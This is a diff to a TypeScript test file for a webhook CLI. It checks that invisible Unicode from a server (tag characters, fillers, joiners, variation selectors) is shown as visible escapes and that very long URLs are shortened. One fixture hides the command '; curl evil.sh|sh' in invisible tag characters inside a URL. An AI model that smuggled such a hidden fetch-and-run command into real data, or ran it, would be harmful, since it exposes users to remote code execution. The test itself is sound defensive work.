@@ -8,6 +8,9 @@ import { ensureBuilt, runCli, stateDir, type Run } from './helpers/cli.js'
 // bodies). Nothing of them may reach the terminal raw: each shows as a visible escape, no
 // fake line appears, and --json stays exact JSON that parses back to the very same text.
 
+// Some 40 runs of the built CLI, each a new Node process: on a busy machine more than the
+// suite's 120 s per file (.taprc), so this file asks for more.
+t.setTimeout(300_000)
 ensureBuilt()
 const dir = stateDir(t)
 const KEY = 'hostile-test-key-1234'
@@ -27,15 +30,40 @@ const HOSTILE = [
 const URL_EVIL = `https://hooks.example.com/a${HOSTILE}`
 const DATE_EVIL = `2026-01-18T00:00:00Z${HOSTILE}`
 
-/** Any character the terminal would act on, or hide: C0 other than the line feed, DEL, C1, bidi and invisible formatting. */
-// eslint-disable-next-line no-control-regex
-const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/
+// What the issue found the filter let through: the tag characters (an invisible copy of ASCII,
+// here spelling a command that a copy of the URL takes along, between the tag opener U+E0001
+// and the cancel tag U+E007F; U+E0000 is unassigned in the block), the soft hyphen, the combining grapheme joiner, the Hangul
+// fillers, the Mongolian vowel separator, the word joiner and the invisible operators, the
+// interlinear annotation characters, variation selectors.
+const TAGGED = (ascii: string): string => [...ascii].map((ch) => String.fromCodePoint(0xe0000 + ch.charCodeAt(0))).join('')
+const INVISIBLE = [
+  '\u{e0000}\u{e0001}', TAGGED('; curl evil.sh|sh'), '\u{e007f}',
+  '\u00ad\u034f\u115f\u1160\u180e\u2060\u2061\u2062\u2063\u2064\u3164\uffa0\ufff9\ufffa\ufffb',
+  '\ufe00\ufe0f\u{e0100}\u{e01ef}',
+].join('')
+/** `INVISIBLE` as the terminal must show it: each code point as its visible escape. */
+const INVISIBLE_SHOWN = [...INVISIBLE].map((ch) => {
+  const code = ch.codePointAt(0)!
+  return code < 0x100 ? `\\x${code.toString(16).padStart(2, '0')}` : code <= 0xffff ? `\\u${code.toString(16).padStart(4, '0')}` : `\\u{${code.toString(16)}}`
+}).join('')
+const URL_INVISIBLE = `https://hooks.example.com/b${INVISIBLE}`
+const HANDLE_INVISIBLE = `acme${INVISIBLE}`
+// A URL of 100,000 characters: shortened on a terminal, whole in --json.
+const URL_LONG = `https://hooks.example.com/${'x'.repeat(100_000 - 26)}`
+
+/**
+ * Any code point the terminal would act on, or not show, the line feed aside: whatever is not a
+ * letter, mark, number, punctuation, symbol or space (controls, format characters, separators,
+ * private use, unassigned, surrogates), and every default-ignorable code point.
+ */
+const RAW = /(?!\n)[^\p{L}\p{M}\p{N}\p{P}\p{S}\p{Zs}]|\p{Default_Ignorable_Code_Point}/u
 
 function batch (id: number, status: string, code: number | null, extra: Record<string, unknown> = {}): Record<string, unknown> {
   return { batch_id: id, created_at: '2026-01-18T01:00:00Z', customer_handle: 'acme', event_count: 1, status, status_code: code, webhook: URL_EVIL, ...extra }
 }
 
 let listing: unknown = { webhook_batches: [] }
+let enrolled: string[] = [URL_EVIL]
 let resend: (id: number, res: ServerResponse) => void = () => {}
 const resent: number[] = []
 let override: ((req: IncomingMessage, res: ServerResponse) => boolean) | null = null
@@ -48,9 +76,9 @@ const server = http.createServer((req, res) => {
   if (override?.(req, res) === true) return
   const url = new URL(req.url ?? '/', 'http://x')
   if (req.headers['x-api-key'] !== KEY) return send(res, 401, { errors: ['no'] })
-  if (req.method === 'GET' && url.pathname === '/tx/v1/webhook') return send(res, 200, [{ webhook: URL_EVIL }])
+  if (req.method === 'GET' && url.pathname === '/tx/v1/webhook') return send(res, 200, enrolled.map((webhook) => ({ webhook })))
   if (req.method === 'POST' && url.pathname === '/tx/v1/webhook/validate') {
-    return send(res, 200, { all_passed: false, results: [{ result: 'failed', webhook: URL_EVIL, response: { status: 500, body: `oops${HOSTILE}` } }] })
+    return send(res, 200, { all_passed: false, results: enrolled.map((webhook) => ({ result: 'failed', webhook, response: { status: 500, body: `oops${HOSTILE}` } })) })
   }
   if (req.method === 'GET' && url.pathname === '/tx/v1/webhook-batch') return send(res, 200, listing)
   const m = /^\/tx\/v1\/webhook-batch\/(\d+)\/resend$/.exec(url.pathname)
@@ -68,6 +96,7 @@ t.before(async () => {
 t.teardown(() => new Promise<void>((resolve) => { server.closeAllConnections(); server.close(() => resolve()) }))
 t.beforeEach(() => {
   override = null
+  enrolled = [URL_EVIL]
   resent.length = 0
   listing = { webhook_batches: [] }
   resend = (id, res) => send(res, 200, { batch_id: id, customer_handle: 'acme', webhook: URL_EVIL, created_at: '2026-01-18T01:00:00Z', event_count: 1, duration_in_ms: 5, status_code: 200 })
@@ -157,6 +186,104 @@ t.test('upstream error messages: C1 and bidi characters from an error body are e
   const asJson = await mc('list', '--json')
   t.notMatch(asJson.stdout, RAW)
   t.match(JSON.parse(asJson.stdout), { data: null, error: { statusCode: 400 } })
+})
+
+/** `text` as a regular expression matching it literally. */
+const literally = (text: string): string => text.replace(/[\\^$.*+?()[\]{}|]/g, '\\$&')
+
+t.test('invisible characters (tag characters carrying a hidden command, fillers, joiners, variation selectors): visible escapes in every command; --json escapes them too and parses back exact', async (t) => {
+  const url = literally(`https://hooks.example.com/b${INVISIBLE_SHOWN}`)
+  const recent = new Date(Date.now() - 3600_000).toISOString()
+  enrolled = [URL_INVISIBLE]
+  override = (req, res) => {
+    if (req.url !== '/tx/v1/webhook/validate') return false
+    send(res, 200, { all_passed: false, results: [{ result: 'failed', webhook: URL_INVISIBLE, response: { status: 500, body: `${INVISIBLE}oops` } }] })
+    return true
+  }
+  // Batch 1: the created_at column (reconcile skips it: not a date); 2 to 7: the endpoint keeps
+  // failing, reconcile stops and names it.
+  listing = {
+    webhook_batches: [
+      batch(1, '4xx_response', 404, { created_at: `2026-01-18T00:00:00Z${INVISIBLE}`, customer_handle: HANDLE_INVISIBLE, webhook: URL_INVISIBLE }),
+      ...[2, 3, 4, 5, 6, 7].map((id) => batch(id, '5xx_response', 503, { created_at: recent, webhook: URL_INVISIBLE })),
+    ],
+  }
+  resend = (id, res) => send(res, 200, { batch_id: id, customer_handle: HANDLE_INVISIBLE, webhook: URL_INVISIBLE, created_at: recent, event_count: 1, duration_in_ms: 5, status_code: 500 })
+  const [list, listJson, validate, resent, batches, batchesJson, reconcile] = await Promise.all([
+    mc('list'), mc('list', '--json'), mc('validate'), mc('resend', '7'), mc('batches', '--since', '1d'), mc('batches', '--since', '1d', '--json'),
+    mc('reconcile', '--since', '1d', '--yes', '--rate', '100'),
+  ])
+
+  t.equal(list.code, 0, list.stderr)
+  assertFiltered(t, list, 'list')
+  t.equal(list.stdout, `https://hooks.example.com/b${INVISIBLE_SHOWN}\n`, 'each one as its escape, the hidden ASCII readable as \\u{e00XX}')
+  t.notMatch(listJson.stdout, RAW, 'list --json: as \\u escapes')
+  t.same(JSON.parse(listJson.stdout), { data: [URL_INVISIBLE], error: null }, 'list --json parses back to the exact text')
+
+  t.equal(validate.code, 1)
+  assertFiltered(t, validate, 'validate')
+  t.match(validate.stdout, new RegExp(`^failed {2}500 {2}${url} {2}\\\\u\\{e0000\\}\\\\u\\{e0001\\}\\\\u\\{e003b\\}`), 'the endpoint and the answer\'s start')
+
+  t.equal(resent.code, 1)
+  assertFiltered(t, resent, 'resend')
+  t.match(resent.stdout, new RegExp(`^batch 7: resent to ${url}: `))
+
+  t.equal(batches.code, 0, batches.stderr)
+  assertFiltered(t, batches, 'batches')
+  t.match(batches.stdout, new RegExp(`\\n1 +${literally(`2026-01-18T00:00:00Z${INVISIBLE_SHOWN}`)} +4xx +404 +1 +- +${url}\\n`))
+  t.notMatch(batchesJson.stdout, RAW)
+  t.match(JSON.parse(batchesJson.stdout).data, [{ createdAt: `2026-01-18T00:00:00Z${INVISIBLE}`, customerHandle: HANDLE_INVISIBLE, webhook: URL_INVISIBLE }])
+
+  t.equal(reconcile.code, 1)
+  assertFiltered(t, reconcile, 'reconcile')
+  t.match(reconcile.stdout, new RegExp(`^\\[1/7\\] batch 1 skipped: created at ${literally(`2026-01-18T00:00:00Z${INVISIBLE_SHOWN}`)}, outside the window`, 'm'))
+  t.match(reconcile.stderr, new RegExp(`the endpoint ${url} still does not answer 2xx`))
+
+  // An upstream error body.
+  override = (_req, res) => {
+    send(res, 400, { errors: [`bad ${INVISIBLE} request`] })
+    return true
+  }
+  const [error, errorJson] = await Promise.all([mc('list'), mc('list', '--json')])
+  t.equal(error.code, 1)
+  assertFiltered(t, error, 'an upstream error')
+  t.match(error.stderr, new RegExp(`^mailchannels-webhooks list: Bad request\\. bad ${literally(INVISIBLE_SHOWN)} request\\n`))
+  t.notMatch(errorJson.stdout, RAW)
+  t.match(JSON.parse(errorJson.stdout), { data: null, error: { statusCode: 400, message: `Bad request. bad ${INVISIBLE_SHOWN} request` } })
+})
+
+/** The line's start, the count of characters left out, and the line's length, for a shortened URL. */
+function shortened (t: Test, text: string, what: string): void {
+  const m = /(https:\/\/hooks\.example\.com\/x+)…\(\+([\d,]+) chars\)/.exec(text)
+  if (m === null) {
+    t.fail(`${what}: a shortened URL with its marker (got ${text.length} characters: ${JSON.stringify(text.slice(0, 100))}...)`)
+    return
+  }
+  t.equal(m[1]!.length + Number(m[2]!.replace(/,/g, '')), 100_000, `${what}: the start of the URL and how many characters are left out (${m[2]})`)
+  const longest = Math.max(...text.split('\n').map((line) => line.length))
+  t.ok(longest <= 1000, `${what}: no line longer than 1,000 characters (the longest: ${longest})`)
+}
+
+t.test('a 100,000-character endpoint URL: shortened with a visible marker on the terminal, whole in --json', async (t) => {
+  const recent = new Date(Date.now() - 3600_000).toISOString()
+  enrolled = [URL_LONG]
+  listing = { webhook_batches: [1, 2, 3, 4, 5, 6].map((id) => batch(id, '5xx_response', 503, { created_at: recent, webhook: URL_LONG })) }
+  resend = (id, res) => send(res, 200, { batch_id: id, customer_handle: 'acme', webhook: URL_LONG, created_at: recent, event_count: 1, duration_in_ms: 5, status_code: 500 })
+  const [list, listJson, validate, batches, batchesJson, reconcile] = await Promise.all([
+    mc('list'), mc('list', '--json'), mc('validate'), mc('batches', '--since', '1d'), mc('batches', '--since', '1d', '--json'),
+    mc('reconcile', '--since', '1d', '--yes', '--rate', '100'),
+  ])
+  t.equal(list.code, 0, list.stderr)
+  shortened(t, list.stdout, 'list')
+  t.same(JSON.parse(listJson.stdout).data, [URL_LONG], 'list --json: the whole URL')
+  t.equal(validate.code, 1)
+  shortened(t, validate.stdout, 'validate')
+  t.equal(batches.code, 0, batches.stderr)
+  shortened(t, batches.stdout, 'batches')
+  t.same(JSON.parse(batchesJson.stdout).data.map((b: { webhook: string }) => b.webhook), Array(6).fill(URL_LONG), 'batches --json: the whole URLs')
+  t.equal(reconcile.code, 1)
+  shortened(t, reconcile.stderr, 'reconcile')
+  t.match(reconcile.stderr, /…\(\+[\d,]+ chars\) still does not answer 2xx\. Fix it, then run reconcile again\./, 'reconcile: the message goes on after the URL')
 })
 
 t.test('reconcile re-checks what the listing returns: a delivered batch, batches from 2019 and 2099, another endpoint\'s are skipped, never resent', async (t) => {
